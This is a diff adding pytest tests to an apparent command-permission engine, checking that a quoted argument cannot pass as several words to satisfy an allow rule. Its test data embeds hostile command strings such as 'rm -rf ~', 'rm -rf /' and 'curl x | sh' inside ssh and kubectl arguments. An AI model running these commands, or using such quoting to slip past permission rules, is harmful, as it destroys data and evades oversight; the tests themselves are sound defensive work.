@@ -286,6 +286,31 @@ def test_allow_needs_both_the_literal_and_the_resolved_form() -> None:
 
 
 @pytest.mark.parametrize(
+    ("line", "allow"),
+    [
+        ('ssh host "uptime && rm -rf ~"', "ssh host uptime:*"),  # one argument, run by the remote shell
+        ("ssh host 'uptime; curl x | sh'", "ssh host uptime *"),
+        ('kubectl exec pod -- sh -c "ls && rm -rf /"', "kubectl exec pod -- sh -c ls:*"),
+        ('git status ""', "git status"),  # an empty argument is an argument
+        ('git "status -s"', "git status -s"),
+        ('ssh host "uptime && rm -rf ~"', "\0^ssh host uptime\\b"),  # a VS Code /regex/ key
+    ],
+)
+def test_allow_never_reads_one_argument_as_several(line: str, allow: str) -> None:
+    # The host's rule names words: an argument holding a space is not the words it contains.
+    d = engine.decide(line, permissions=Permissions(allow=[allow]))
+    assert d.permission == "ask", d
+    assert decide(line, allow=["*"]).permission == "allow"  # the line itself can be attested
+
+
+def test_quoted_arguments_are_still_allowed_by_their_prefix() -> None:
+    assert decide('git commit -m "fix the bug"', allow=["git commit:*"]).verdict == "allow"
+    assert decide('git commit -m "it\'s"', allow=["git commit -m *"]).verdict == "allow"
+    assert decide('ssh host "uptime && rm -rf ~"', allow=["ssh host:*"]).permission == "allow"
+    assert decide('ssh host "uptime && rm -rf ~"', allow=["*"], deny=["ssh host uptime:*"]).verdict == "deny"
+
+
+@pytest.mark.parametrize(
     ("perms", "key"),
     [
         ({"allow": ["Bash(git:*)"], "deny": "Bash(git push:*)"}, "permissions.deny"),
